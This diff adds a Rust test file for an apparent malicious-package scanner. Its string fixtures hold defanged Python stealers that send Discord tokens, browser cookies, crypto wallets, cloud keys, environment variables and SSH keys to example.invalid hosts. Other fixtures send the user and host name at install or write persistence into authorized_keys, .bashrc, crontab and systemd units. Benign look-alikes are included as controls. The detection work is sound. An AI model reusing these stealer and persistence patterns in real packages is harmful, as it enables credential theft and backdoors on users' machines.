@@ -1,0 +1,270 @@
+//! Stealers, install-time probes and persistence as a package's `__init__.py` or `setup.py`
+//! writes them (tester t10's kinds): one secret read at load beside a network call at load, a
+//! secret location in a browser, wallet or Discord store or spelled in pieces, the user and host
+//! name sent at install, and writes of login, schedule and service files. Each is defanged (hosts
+//! under `example.invalid`, commands only `echo`) and scanned with the library; nothing is
+//! executed. Benign look-alikes must stay below medium.
+
+use std::path::{Path, PathBuf};
+
+use airlock::analyse::BudgetLimits;
+use airlock::finding::Severity;
+use airlock::scan::{scan_file, FileReport};
+
+/// Write `source` as `<case>/demo/<file>` under `root` (with an empty `__init__.py` beside a
+/// module of another name).
+fn package(root: &Path, case: &str, file: &str, source: &str) -> PathBuf {
+    let dir = root.join(case).join("demo");
+    std::fs::create_dir_all(&dir).expect("mkdir");
+    if file != "__init__.py" {
+        std::fs::write(dir.join("__init__.py"), "").expect("write");
+    }
+    let p = dir.join(file);
+    std::fs::write(&p, source).expect("write");
+    p
+}
+
+/// The worst severity of `rule` in the report.
+fn worst(r: &FileReport, rule: &str) -> Option<Severity> {
+    r.findings
+        .iter()
+        .filter(|f| f.rule.id == rule)
+        .map(|f| f.severity)
+        .max()
+}
+
+fn summary(r: &FileReport) -> Vec<String> {
+    r.findings
+        .iter()
+        .map(|f| format!("{} {} {}", f.rule.id, f.severity, f.message))
+        .collect()
+}
+
+/// (case, file, source, rule, severity).
+type Case = (
+    &'static str,
+    &'static str,
+    &'static str,
+    &'static str,
+    Severity,
+);
+
+fn malicious() -> Vec<Case> {
+    use Severity::*;
+    vec![
+        (
+            "discord-leveldb",
+            "__init__.py",
+            "import os, re, json, urllib.request\n\
+             def _grab():\n\
+             \x20   roaming = os.getenv('APPDATA')\n\
+             \x20   path = roaming + '\\\\discord\\\\Local Storage\\\\leveldb'\n\
+             \x20   tokens = [l for f in os.listdir(path) for l in open(os.path.join(path, f), errors='ignore')]\n\
+             \x20   urllib.request.urlopen(urllib.request.Request('https://hooks.example.invalid/x', data=json.dumps(tokens).encode()))\n\
+             _grab()\n",
+            "python-credential-stealer",
+            Critical,
+        ),
+        (
+            "chrome-cookies",
+            "__init__.py",
+            "import os, shutil, sqlite3, requests\n\
+             def steal():\n\
+             \x20   p = os.path.join(os.path.expanduser('~'), '.config', 'google-chrome', 'Default', 'Cookies')\n\
+             \x20   rows = sqlite3.connect(p).execute('select 1').fetchall()\n\
+             \x20   requests.post('https://c2.example.invalid/c', json=rows)\n\
+             steal()\n",
+            "python-credential-stealer",
+            Critical,
+        ),
+        (
+            "wallets",
+            "__init__.py",
+            "import os, glob, requests\n\
+             for h in glob.glob(os.path.expanduser('~/.electrum/wallets/*')):\n\
+             \x20   requests.post('https://c2.example.invalid/w', files={'f': open(h, 'rb')})\n",
+            "python-credential-stealer",
+            Critical,
+        ),
+        (
+            "env-to-file-then-post",
+            "__init__.py",
+            "import os, json, tempfile, requests\n\
+             p = os.path.join(tempfile.gettempdir(), '.e')\n\
+             json.dump(dict(os.environ), open(p, 'w'))\n\
+             requests.put('https://c2.example.invalid/e', data=open(p, 'rb'))\n",
+            "python-credential-stealer",
+            Critical,
+        ),
+        (
+            "boto-credentials",
+            "__init__.py",
+            "import boto3, requests\n\
+             c = boto3.Session().get_credentials()\n\
+             requests.post('https://c2.example.invalid/a', json={'k': c.access_key})\n",
+            "python-credential-stealer",
+            Critical,
+        ),
+        (
+            "named-token",
+            "__init__.py",
+            "import os, urllib.request, urllib.parse\n\
+             tok = os.environ.get('GITHUB_TOKEN', '') + os.environ['AWS_SECRET_ACCESS_KEY']\n\
+             urllib.request.urlopen('https://c2.example.invalid/t?' + urllib.parse.urlencode({'t': tok}))\n",
+            "python-credential-stealer",
+            Critical,
+        ),
+        (
+            "ssh-in-pieces",
+            "__init__.py",
+            "import glob, os, requests\n\
+             home = os.path.expanduser('~')\n\
+             keys = [open(p).read() for p in glob.glob(os.path.join(home, '.s' + 'sh', '*'))]\n\
+             requests.post('https://c2.example.invalid/k', json=keys)\n",
+            "python-credential-stealer",
+            Critical,
+        ),
+        (
+            "recon-dns",
+            "setup.py",
+            "import base64, getpass, os, socket\n\
+             from setuptools import setup\n\
+             info = '%s|%s' % (getpass.getuser(), socket.gethostname())\n\
+             enc = base64.b32encode(info.encode()).decode().strip('=').lower()\n\
+             try:\n\
+             \x20   socket.gethostbyname(enc[:60] + '.p01.example.invalid')\n\
+             except Exception:\n\
+             \x20   pass\n\
+             setup(name='p01', version='1.0')\n",
+            "python-host-fingerprint",
+            High,
+        ),
+        (
+            "recon-http",
+            "setup.py",
+            "import getpass, platform, urllib.request, urllib.parse\n\
+             from setuptools import setup\n\
+             q = urllib.parse.urlencode({'u': getpass.getuser(), 'h': platform.node()})\n\
+             urllib.request.urlopen('https://p02.example.invalid/c?' + q, timeout=3)\n\
+             setup(name='p02', version='1.0')\n",
+            "python-host-fingerprint",
+            High,
+        ),
+        (
+            "authorized-keys",
+            "__init__.py",
+            "import os\n\
+             d = os.path.expanduser('~/.ssh'); os.makedirs(d, exist_ok=True)\n\
+             with open(os.path.join(d, 'authorized_keys'), 'a') as f:\n\
+             \x20   f.write('ssh-ed25519 AAAA attacker@example.invalid')\n",
+            "python-startup-write",
+            High,
+        ),
+        (
+            "bashrc",
+            "__init__.py",
+            "import os\n\
+             with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n\
+             \x20   f.write('echo airlock-test')\n",
+            "python-startup-write",
+            High,
+        ),
+        (
+            "crontab-argv",
+            "__init__.py",
+            "import subprocess\n\
+             subprocess.run(['crontab', '-'], input=b'*/5 * * * * echo airlock-test')\n",
+            "python-startup-write",
+            High,
+        ),
+        (
+            "systemd-user-unit",
+            "__init__.py",
+            "import os, pathlib\n\
+             u = pathlib.Path.home() / '.config' / 'systemd' / 'user'\n\
+             (u / 'upd.service').write_text('[Service]\\nExecStart=/bin/echo airlock-test\\n')\n\
+             os.spawnlp(os.P_NOWAIT, 'systemctl', 'systemctl', '--user', 'enable', 'upd.service')\n",
+            "python-startup-write",
+            High,
+        ),
+    ]
+}
+
+#[test]
+fn secrets_recon_and_persistence_at_load_are_found() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let mut wrong = Vec::new();
+    for (case, file, src, rule, want) in malicious() {
+        let p = package(dir.path(), case, file, src);
+        let r = scan_file(&p, BudgetLimits::default());
+        if worst(&r, rule) != Some(want) {
+            wrong.push(format!("{case}: want {rule} {want}, got {:?}", summary(&r)));
+        }
+    }
+    assert!(wrong.is_empty(), "{wrong:#?}");
+}
+
+/// Benign shapes near the rules: a client sending its token inside a function, a cloud SDK
+/// reading its config file when asked, a host name logged at import, a `~/.ssh` path read in a
+/// function, `crontab -l`, a profile file named in a docstring.
+#[test]
+fn benign_neighbours_stay_below_medium() {
+    let cases: &[(&str, &str, &str)] = &[
+        (
+            "token-client",
+            "__init__.py",
+            "import os, requests\n\
+             TOKEN = os.environ.get('GITHUB_TOKEN')\n\
+             def fetch(url):\n\
+             \x20   return requests.get(url, headers={'Authorization': f'token {TOKEN}'})\n",
+        ),
+        (
+            "sdk-config",
+            "config.py",
+            "import os, configparser, urllib.request\n\
+             def load():\n\
+             \x20   c = configparser.ConfigParser(); c.read(os.path.expanduser('~/.aws/config'))\n\
+             \x20   return c\n\
+             def call(u):\n\
+             \x20   return urllib.request.urlopen(u)\n",
+        ),
+        (
+            "hostname-logged",
+            "__init__.py",
+            "import logging, socket\n\
+             logging.getLogger(__name__).debug('running on %s', socket.gethostname())\n",
+        ),
+        (
+            "crontab-list",
+            "cron.py",
+            "import subprocess\n\
+             def jobs():\n\
+             \x20   return subprocess.run(['crontab', '-l'], capture_output=True).stdout\n",
+        ),
+        (
+            "profile-in-docs",
+            "__init__.py",
+            "\"\"\"Add `eval \"$(demo init)\"` to your ~/.bashrc to enable completion.\"\"\"\n\
+             import os\n\
+             HOME = os.path.expanduser('~')\n",
+        ),
+        (
+            "rc-written-on-request",
+            "cli.py",
+            "import os\n\
+             def install_completion():\n\
+             \x20   with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n\
+             \x20       f.write('eval \"$(demo completion)\"')\n",
+        ),
+    ];
+    let dir = tempfile::tempdir().expect("tempdir");
+    let mut wrong = Vec::new();
+    for (case, file, src) in cases {
+        let p = package(dir.path(), case, file, src);
+        let r = scan_file(&p, BudgetLimits::default());
+        if r.worst().is_some_and(|w| w >= Severity::Medium) {
+            wrong.push(format!("{case}: {:?}", summary(&r)));
+        }
+    }
+    assert!(wrong.is_empty(), "{wrong:#?}");
+}
